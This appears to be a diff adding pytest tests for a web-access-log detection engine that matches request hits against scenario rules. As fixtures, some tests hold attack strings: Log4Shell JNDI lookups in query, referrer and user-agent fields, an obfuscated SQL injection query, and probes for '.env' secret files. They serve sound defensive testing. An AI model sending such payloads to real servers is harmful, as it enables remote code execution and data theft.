@@ -1,0 +1,113 @@
+from collections.abc import Iterable
+
+import pyarrow as pa
+import pytest
+
+from schemas.scenario import Bucket, Match, Scenario
+from schemas.window import EVENTS, HITS
+from tests.transforms.detection.tables import make_hits
+from transforms.detection.load import load_scenarios
+from transforms.detection.match import match_events
+
+Row = dict[str, object]
+
+
+def scenario(*matches: Row, **keys: str) -> Scenario:
+    bucket = Bucket(capacity=1, leak="PT1S")
+    found = tuple(Match(**match) for match in matches)
+    return Scenario(name="test", description="x", severity="low", bucket=bucket, match=found, **keys)
+
+
+def lines_matched(rows: Iterable[Row], *matches: Row) -> list[int]:
+    return match_events(make_hits(rows), [scenario(*matches)])["line_number"].to_pylist()
+
+
+@pytest.mark.parametrize(
+    ("match", "fits", "does_not"),
+    [
+        ({"methods": ["POST", "PUT"]}, {"method": "POST"}, {"method": "GET"}),
+        ({"methods": ["POST"]}, {"method": "POST"}, {"method": None}),
+        ({"status": [401, "5xx"]}, {"status": 503}, {"status": 403}),
+        ({"status": [401, "5xx"]}, {"status": 401}, {"status": None}),
+        ({"path": ["^/admin/"]}, {"path": "/%61DMIN/"}, {"path": "/x/admin/"}),
+        ({"not_path": [r"\.css$"]}, {"path": "/a"}, {"path": "/a.CSS"}),
+        ({"not_path": ["x"]}, {"path": None}, {"path": "/x"}),
+        ({"query": ["^$"]}, {"query": None}, {"query": "a=1"}),
+        ({"query": ["^a b$"]}, {"query": "A+B"}, {"query": "ab"}),
+        ({"user_agent": ["scan"]}, {"user_agent": "A Scanner"}, {"user_agent": None}),
+        ({"payload": "log4shell"}, {"query": "x=${jndi:ldap://192.0.2.1/a}"}, {"query": "x=jndi"}),
+        ({"payload": "log4shell"}, {"referrer": "${jndi:ldap://192.0.2.1/a}"}, {"referrer": "https://www.example.org"}),
+        ({"payload": "log4shell"}, {"user_agent": "${jndi:ldap://192.0.2.1/a}"}, {"user_agent": "log4j"}),
+        ({"payload": "sql-injection"}, {"query": "id=1+UNION/**/ALL/**/SELECT+1"}, {"query": "q=union+all"}),
+    ],
+)
+def test_a_key_says_what_a_hit_must_be(match, fits, does_not):
+    assert lines_matched([fits, does_not], match) == [1]
+
+
+def test_all_keys_of_a_match_must_hold_and_one_match_is_enough():
+    rows = [{"method": "POST", "status": 200}, {"method": "POST", "status": 404}, {"status": 401}, {"status": 200}]
+
+    assert lines_matched(rows, {"methods": ["POST"], "status": [404]}, {"status": [401]}) == [2, 3]
+
+
+def test_a_hit_without_an_address_is_no_event():
+    assert lines_matched([{"client_ip": None}, {}], {"status": [200]}) == [2]
+
+
+def test_an_event_tells_enough_to_be_counted_without_its_hit():
+    row = {"path": "/a", "vhost": "www.example.org", "user_agent": "x", "status": 404}
+    hits = make_hits([row])
+
+    (event,) = match_events(hits, [scenario({}, count="distinct path")]).to_pylist()
+
+    (hit,) = hits.to_pylist()
+    assert event == {
+        "scenario": "test",
+        "occurred_at": hit["requested_at"],
+        "distinct": "/a",
+        **{name: hit[name] for name in ("log", "file", "line_number", "client_ip", "user_agent", "vhost", "status")},
+    }
+
+
+def test_only_a_scenario_that_counts_distinct_paths_keeps_them():
+    assert match_events(make_hits([{}]), [scenario({})])["distinct"].to_pylist() == [None]
+
+
+def test_shards_with_dictionaries_of_their_own_match_like_one_table():
+    rows = [{"path": path, "client_ip": f"192.0.2.{n}"} for n, path in enumerate(["/a", "/.env", "/b", "/.env", "/a"])]
+    shards = pa.concat_tables([make_hits([row]).set_column(2, HITS.field(2), [[n]]) for n, row in enumerate(rows, 1)])
+
+    together, apart = (match_events(hits, load_scenarios()) for hits in (make_hits(rows), shards))
+
+    of_secret_files = [row["line_number"] for row in apart.to_pylist() if row["scenario"] == "secret-files"]
+    assert of_secret_files == [2, 4]
+    assert apart.drop_columns("occurred_at").to_pylist() == together.drop_columns("occurred_at").to_pylist()
+
+
+def test_a_part_of_a_table_gives_events_of_that_part_and_no_other_address():
+    hits = make_hits([{"client_ip": f"192.0.2.{number}"} for number in range(9)])
+
+    events = match_events(hits.slice(3, 1), [scenario({})])
+
+    assert events["client_ip"].combine_chunks().dictionary.to_pylist() == ["192.0.2.3"]
+
+
+def test_a_great_many_paths_and_queries_are_not_mixed_up():
+    many = 50_000  # squared, more than 32 bits hold
+    columns = {name: [f"{name}{number}" for number in range(many)] for name in ("path", "query")}
+    columns["query"][-1] = "x=${jndi:ldap://192.0.2.1/a}"
+    hits = make_hits([{}]).take([0] * many)
+    for name, values in columns.items():
+        index = HITS.get_field_index(name)
+        hits = hits.set_column(index, HITS.field(index), pa.array(values).dictionary_encode())
+
+    events = match_events(hits, [scenario({"payload": "log4shell"}, count="distinct path")])
+
+    assert events["distinct"].to_pylist() == [f"path{many - 1}"]
+
+
+def test_nothing_gives_nothing_in_the_right_shape():
+    for rules in ([], load_scenarios()):
+        events = match_events(HITS.empty_table(), rules)
+        assert (len(events), events.schema) == (0, EVENTS)
